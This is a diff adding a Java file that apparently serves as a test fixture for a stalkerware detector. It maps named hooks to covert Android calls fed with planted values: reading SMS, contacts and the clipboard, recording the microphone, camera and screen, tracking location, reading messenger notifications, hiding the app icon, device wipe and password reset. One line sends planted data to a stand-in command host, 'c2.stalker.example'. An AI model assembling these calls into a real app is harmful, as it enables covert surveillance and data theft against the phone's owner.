@@ -1,0 +1,203 @@
+package com.example.watched;
+
+import android.accessibilityservice.AccessibilityService;
+import android.app.ApplicationPackageManager;
+import android.app.admin.DevicePolicyManager;
+import android.app.usage.UsageStatsManager;
+import android.content.ClipboardManager;
+import android.content.ComponentName;
+import android.content.ContentResolver;
+import android.content.Intent;
+import android.database.ContentObserver;
+import android.hardware.Camera;
+import android.hardware.camera2.CameraManager;
+import android.location.LocationManager;
+import android.media.AudioRecord;
+import android.media.ImageReader;
+import android.media.MediaRecorder;
+import android.media.projection.MediaProjection;
+import android.media.projection.MediaProjectionManager;
+import android.net.Uri;
+import android.provider.Telephony;
+import android.service.notification.NotificationListenerService;
+import android.service.notification.StatusBarNotification;
+import android.telephony.PhoneStateListener;
+import android.telephony.SmsManager;
+import android.telephony.SmsMessage;
+import android.telephony.TelephonyManager;
+import android.view.accessibility.AccessibilityEvent;
+import com.google.android.gms.location.FusedLocationProviderClient;
+import java.io.FileInputStream;
+import java.net.InetAddress;
+import java.net.Socket;
+import java.net.URL;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.TreeMap;
+
+/** What the app can do, by the name of the row of the hook table that sees it. Every argument holds what is planted. */
+final class Actions {
+    interface Action {
+        void run() throws Exception;
+    }
+
+    static final Map<String, Action> BY_NAME = new TreeMap<>();
+
+    private static final ContentResolver RESOLVER = new ContentResolver();
+    private static final AccessibilityService WATCHER = new Watcher();
+    private static final NotificationListenerService LISTENER = new Listener();
+    private static final ApplicationPackageManager PACKAGES = new ApplicationPackageManager();
+    private static final DevicePolicyManager POLICIES = new DevicePolicyManager();
+    private static final LocationManager LOCATION = new LocationManager();
+    private static final FusedLocationProviderClient FUSED = new FusedLocationProviderClient();
+    private static final ClipboardManager CLIPBOARD = new ClipboardManager();
+    private static final SmsManager SMS = new SmsManager();
+    private static final ComponentName ICON = new ComponentName("com.example.watched", "com.example.watched.Icon");
+    private static final ComponentName PART = new ComponentName("com.example.watched", "com.example.watched.Part");
+
+    private Actions() {}
+
+    static {
+        content("sms", "sms");
+        content("calls", "call_log");
+        content("contacts", "com.android.contacts");
+        content("calendar", "com.android.calendar");
+        content("media", "media");
+        messages();
+        sound();
+        pictures();
+        places();
+        services();
+        system();
+        network();
+    }
+
+    private static void content(String category, String authority) {
+        Uri uri = Uri.parse("content://" + authority + Planted.PATH + "/" + Planted.NUMBER);
+        String where = "address='" + Planted.NUMBER + "' AND body='" + Planted.TEXT + "'";
+        BY_NAME.put(category + ".query", () -> RESOLVER.query(uri, null, where, null, null));
+        BY_NAME.put(
+                category + ".observe", () -> RESOLVER.registerContentObserver(uri, true, new ContentObserver()));
+        if (authority.equals("media")) {
+            BY_NAME.put("media.openInputStream", () -> RESOLVER.openInputStream(uri));
+            BY_NAME.put("media.openFileDescriptor", () -> RESOLVER.openFileDescriptor(uri, "r"));
+        }
+    }
+
+    private static void messages() {
+        byte[] pdu = (Planted.NUMBER + Planted.TEXT).getBytes();
+        BY_NAME.put("sms.received", () -> SmsMessage.createFromPdu(pdu));
+        BY_NAME.put("sms.intent", () -> Telephony.Sms.Intents.getMessagesFromIntent(new Intent(Planted.TEXT)));
+        BY_NAME.put("sms.sendTextMessage", () -> SMS.sendTextMessage(Planted.NUMBER, null, Planted.TEXT, null, null));
+        BY_NAME.put(
+                "sms.sendMultipartTextMessage",
+                () -> SMS.sendMultipartTextMessage(
+                        Planted.NUMBER, null, new ArrayList<>(List.of(Planted.TEXT)), null, null));
+        BY_NAME.put(
+                "sms.sendDataMessage", () -> SMS.sendDataMessage(Planted.NUMBER, null, (short) 9, pdu, null, null));
+        TelephonyManager telephony = new TelephonyManager();
+        BY_NAME.put("calls.listen", () -> telephony.listen(new PhoneStateListener(), 0x20 | 0x01));
+        BY_NAME.put("calls.callback", () -> telephony.registerTelephonyCallback(null, null));
+    }
+
+    private static void sound() {
+        BY_NAME.put("microphone.record", () -> new AudioRecord(4).startRecording());
+        BY_NAME.put("microphone.recorder", () -> {
+            MediaRecorder recorder = new MediaRecorder();
+            recorder.setAudioSource(1);
+            recorder.start();
+        });
+    }
+
+    private static void pictures() {
+        BY_NAME.put("camera.recorder", () -> record(1));
+        BY_NAME.put("camera.open2", () -> new CameraManager().openCamera(Planted.TEXT, null, (android.os.Handler) null));
+        BY_NAME.put("camera.open1", () -> Camera.open());
+        BY_NAME.put("camera.picture1", () -> new Camera().takePicture(null, null, null));
+        BY_NAME.put("screen.recorder", () -> record(2));
+        BY_NAME.put("screen.accessibility", () -> WATCHER.takeScreenshot(0, null, null));
+        BY_NAME.put("screen.consent", () -> new MediaProjectionManager().getMediaProjection(-1, null));
+        BY_NAME.put(
+                "screen.display",
+                () -> new MediaProjection().createVirtualDisplay(Planted.TEXT, 1, 1, 1, 0, null, null, null));
+        BY_NAME.put("screen.latest", () -> new ImageReader().acquireLatestImage());
+        BY_NAME.put("screen.next", () -> new ImageReader().acquireNextImage());
+    }
+
+    private static void record(int source) {
+        MediaRecorder recorder = new MediaRecorder();
+        recorder.setVideoSource(source);
+        recorder.start();
+    }
+
+    private static void places() {
+        BY_NAME.put("location.updates", () -> LOCATION.requestLocationUpdates("gps", 0, 0, null));
+        BY_NAME.put("location.reordered", () -> LOCATION.requestLocationUpdates(0, 0, "network", null));
+        BY_NAME.put("location.single", () -> LOCATION.requestSingleUpdate("gps", null, null));
+        BY_NAME.put("location.current", () -> LOCATION.getCurrentLocation("fused", null, null, null));
+        BY_NAME.put("location.last", () -> LOCATION.getLastKnownLocation(Planted.TEXT));
+        BY_NAME.put("location.fused-updates", () -> FUSED.requestLocationUpdates(null, null, null));
+        BY_NAME.put("location.fused-current", () -> FUSED.getCurrentLocation(100, null));
+        BY_NAME.put("location.fused-last", () -> FUSED.getLastLocation());
+    }
+
+    private static void services() {
+        BY_NAME.put("accessibility.event", () -> WATCHER.onAccessibilityEvent(new AccessibilityEvent("com.tencent.mm")));
+        BY_NAME.put("accessibility.forged", () -> WATCHER.onAccessibilityEvent(new AccessibilityEvent(Planted.TEXT)));
+        BY_NAME.put("accessibility.root", () -> WATCHER.getRootInActiveWindow());
+        BY_NAME.put("accessibility.windows", () -> WATCHER.getWindows());
+        BY_NAME.put("accessibility.global-action", () -> WATCHER.performGlobalAction(1));
+        BY_NAME.put("accessibility.gesture", () -> WATCHER.dispatchGesture(null, null, null));
+        BY_NAME.put(
+                "notifications.posted",
+                () -> LISTENER.onNotificationPosted(new StatusBarNotification("com.whatsapp"), null));
+        BY_NAME.put("notifications.active", () -> LISTENER.getActiveNotifications());
+        BY_NAME.put("notifications.cancel", () -> LISTENER.cancelNotification(Planted.TEXT));
+    }
+
+    private static void system() {
+        BY_NAME.put("clipboard.read", () -> CLIPBOARD.getPrimaryClip());
+        BY_NAME.put("clipboard.text", () -> CLIPBOARD.getText());
+        BY_NAME.put("clipboard.listen", () -> CLIPBOARD.addPrimaryClipChangedListener(null));
+        BY_NAME.put("apps.packages", () -> PACKAGES.getInstalledPackages(0));
+        BY_NAME.put("apps.applications", () -> PACKAGES.getInstalledApplications(0));
+        BY_NAME.put(
+                "apps.launchers", () -> PACKAGES.queryIntentActivities(new Intent("android.intent.action.MAIN"), 0));
+        BY_NAME.put("apps.share", () -> PACKAGES.queryIntentActivities(new Intent("android.intent.action.SEND"), 0));
+        UsageStatsManager usage = new UsageStatsManager();
+        BY_NAME.put("apps.usage", () -> usage.queryUsageStats(0, 0, 1));
+        BY_NAME.put("apps.usage-events", () -> usage.queryEvents(0, 1));
+        BY_NAME.put("hiding.component", () -> PACKAGES.setComponentEnabledSetting(ICON, 2, 1));
+        BY_NAME.put("hiding.part", () -> PACKAGES.setComponentEnabledSetting(PART, 2, 1));
+        BY_NAME.put("hiding.shown", () -> PACKAGES.setComponentEnabledSetting(ICON, 1, 1));
+        policies();
+        BY_NAME.put("commands.exec", () -> Runtime.getRuntime().exec("id " + Planted.TEXT).waitFor());
+        BY_NAME.put("commands.start", () -> new ProcessBuilder("/usr/bin/id", Planted.TEXT).start().waitFor());
+        BY_NAME.put("commands.missing", () -> Runtime.getRuntime().exec(new String[] {"/nowhere/su", "-c", "id"}));
+    }
+
+    private static void policies() {
+        BY_NAME.put("admin.lockNow", () -> POLICIES.lockNow());
+        BY_NAME.put("admin.wipeData", () -> POLICIES.wipeData(0));
+        BY_NAME.put("admin.resetPassword", () -> POLICIES.resetPassword(Planted.TEXT, 0));
+        BY_NAME.put(
+                "admin.resetPasswordWithToken", () -> POLICIES.resetPasswordWithToken(PART, Planted.TEXT, null, 0));
+        BY_NAME.put("admin.setCameraDisabled", () -> POLICIES.setCameraDisabled(PART, true));
+        BY_NAME.put("admin.setUninstallBlocked", () -> POLICIES.setUninstallBlocked(PART, Planted.TEXT, true));
+        BY_NAME.put("admin.setPackagesSuspended", () -> POLICIES.setPackagesSuspended(PART, null, true));
+        BY_NAME.put("admin.setApplicationHidden", () -> POLICIES.setApplicationHidden(PART, Planted.TEXT, true));
+    }
+
+    private static void network() {
+        int port = Integer.getInteger("port", 9);
+        BY_NAME.put(
+                "network.url",
+                () -> new URL("https://u:p@c2.stalker.example" + Planted.PATH + "?" + Planted.QUERY).openConnection());
+        BY_NAME.put("network.resolve", () -> InetAddress.getAllByName("localhost"));
+        BY_NAME.put("network.connect", () -> new Socket("127.0.0.1", port).close());
+        BY_NAME.put(
+                "messenger-files.open",
+                () -> new FileInputStream(System.getProperty("files") + "/com.whatsapp/" + Planted.FILE).close());
+    }
+}
